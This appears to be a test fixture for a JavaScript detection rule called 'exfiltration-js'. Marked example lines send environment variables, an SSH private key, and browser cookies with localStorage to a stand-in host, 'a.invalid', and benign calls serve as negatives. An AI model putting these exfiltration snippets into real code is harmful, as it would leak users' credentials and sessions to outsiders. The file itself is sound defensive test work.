const fs = require("fs"), https = require("https");
function a() {
  const body = JSON.stringify(process.env);
  // ruleid: exfiltration-js
  fetch("https://a.invalid/", { method: "POST", body: body });
}
function b() {
  const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
  const req = https.request({ hostname: "a.invalid", method: "POST" });
  // ruleid: exfiltration-js
  req.write(key);
}
function c() {
  // ok: exfiltration-js
  fetch("https://api.acme.invalid/", { method: "POST", body: JSON.stringify({ region: process.env.REGION }) });
}
function d() {
  // ok: exfiltration-js
  fetch("https://api.acme.invalid/", { headers: { Authorization: process.env.ACME_KEY } });
}
// ruleid: exfiltration-js
fetch("https://a.invalid/in", { method: "POST", body: document.cookie + JSON.stringify(localStorage) });
// ok: exfiltration-js
fetch("/api/own", { method: "POST", body: document.cookie });
// ok: exfiltration-js
fetch("https://a.invalid/in", { method: "POST", body: localStorage.getItem("theme") });
